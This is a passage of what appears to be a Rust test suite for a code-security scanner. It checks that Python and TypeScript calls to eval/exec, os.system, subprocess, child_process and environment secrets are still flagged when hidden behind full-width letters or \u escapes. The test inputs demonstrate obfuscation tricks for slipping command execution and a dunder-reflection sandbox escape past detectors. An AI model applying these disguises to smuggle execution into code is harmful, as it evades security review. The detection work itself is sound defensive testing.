    check_all_gated(
        py,
        &[
            ("ｅｘｅｃ('print(1)')\n", "py.dynamic.eval"),
            ("𝐞𝐱𝐞𝐜('print(1)')\n", "py.dynamic.eval"),
            ("import os\nos.ｓｙｓｔｅｍ('id')\n", "py.process.os-system"),
            ("import ｏｓ as o\no.system('id')\n", "py.process.os-system"),
            (
                "from ｓｕｂｐｒｏｃｅｓｓ import ｒｕｎ\nｒｕｎ(['id'])\n",
                "py.process.subprocess",
            ),
            (
                "().__class__.__ｂａｓｅ__.__ｓｕｂｃｌａｓｓｅｓ__()\n",
                "py.reflection.dunder",
            ),
        ],
    );
    // Strings are not identifiers: a full-width word in a string is just text.
    check(py, "print('ｅｘｅｃ and ｏｓ.ｓｙｓｔｅｍ')\n", &[]);
}

#[test]
fn typescript_identifiers_with_unicode_escapes_are_decoded() {
    // `\u0065val` is `eval` (each of these runs under node).
    let ts = Language::TypeScript;
    check_all_gated(
        ts,
        &[
            ("\\u0065val('1');\n", "ts.dynamic.eval"),
            ("globalThis.\\u{65}val('1');\n", "ts.dynamic.eval"),
            ("new \\u0046unction('return 1')();\n", "ts.dynamic.eval"),
            (
                "const { \\u0065xecSync: run } = require('child_process');\nconst fns = [run];\nfns[0]('id');\n",
                "ts.process.child-process",
            ),
        ],
    );
    check(
        ts,
        "console.log(process.\\u0065nv.HOME);\n",
        &["ts.secret.env"],
    );
    // An escape in a string is the string's business.
    check(ts, "console.log('\\u0065val');\n", &[]);
}
